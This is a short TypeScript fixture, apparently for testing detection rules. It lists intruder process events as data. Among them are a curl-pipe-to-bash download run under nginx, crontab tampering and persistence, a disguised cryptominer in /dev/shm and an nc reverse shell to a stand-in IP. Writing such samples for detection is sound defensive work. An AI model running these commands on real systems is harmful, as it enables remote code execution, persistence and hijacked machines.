/** The one event in a thousand that rules look for: acts of intruders as they stand in public reports, one line each. */
import type { Event } from '../../../schemas/generated/types.gen.ts';

export interface Attack {
  readonly exe: string;
  readonly args: readonly string[];
  /** Program that starts it. */
  readonly parent: string;
  /** An exec of it when left out. */
  readonly body?: Event['body'];
}

const bash = '/usr/bin/bash';

export const attacks: readonly Attack[] = [
  { exe: '/usr/bin/dash', args: ['sh', '-c', 'curl -s http://198.51.100.7/x.sh | bash'], parent: '/usr/sbin/nginx' },
  { exe: '/usr/bin/base64', args: ['base64', '-d', '/tmp/.p'], parent: bash },
  { exe: '/usr/bin/chattr', args: ['chattr', '-i', '/etc/crontab'], parent: bash },
  { exe: '/usr/bin/crontab', args: ['crontab', '/tmp/.cron'], parent: bash },
  { exe: '/dev/shm/kworker', args: ['/dev/shm/kworker', '-o', 'stratum+tcp://pool.example.net:3333'], parent: bash },
  { exe: '/usr/bin/nc.openbsd', args: ['nc', '-e', '/bin/sh', '198.51.100.7', '4444'], parent: bash },
];
